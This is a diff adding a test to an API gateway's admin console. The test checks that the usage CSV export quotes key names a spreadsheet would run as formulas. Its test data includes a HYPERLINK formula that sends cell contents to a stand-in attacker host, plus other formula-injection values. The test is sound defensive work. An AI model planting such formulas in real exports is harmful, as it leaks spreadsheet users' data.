@@ -179,3 +179,20 @@ async def test_counters_unreachable_is_503_not_500(tmp_path):
         assert r.status_code == 503 and "usage counters unavailable" in r.text
         assert "Redis (LITEGATE_REDIS) is reachable" in r.text  # what to fix
     await gw.engine.dispose()
+
+
+async def test_usage_csv_cannot_carry_a_spreadsheet_formula(console):
+    """Key names are free text (a write token can choose one): before the fix a key
+    named ``=HYPERLINK(...)`` reached the CSV as is, and a spreadsheet opening the
+    download ran it. Cells that a spreadsheet reads as a formula are quoted with ``'``."""
+    gw, client = console
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd", "-2", "@SUM(1)",
+             "\tx", "plain"]
+    specs = await seed(gw, names, {})
+    small = specs["_route"].variants[0]
+    for name in names:
+        await gw.spend.record(specs[name], "chat", small, 1, 1, now=time.time())
+    r = await client.get("/admin/usage.csv", params={"period": "1d"})
+    assert r.status_code == 200
+    keys = sorted(row["key"] for row in csv.DictReader(io.StringIO(r.text)))
+    assert keys == sorted(["'" + n for n in names[:-1]] + ["plain"])
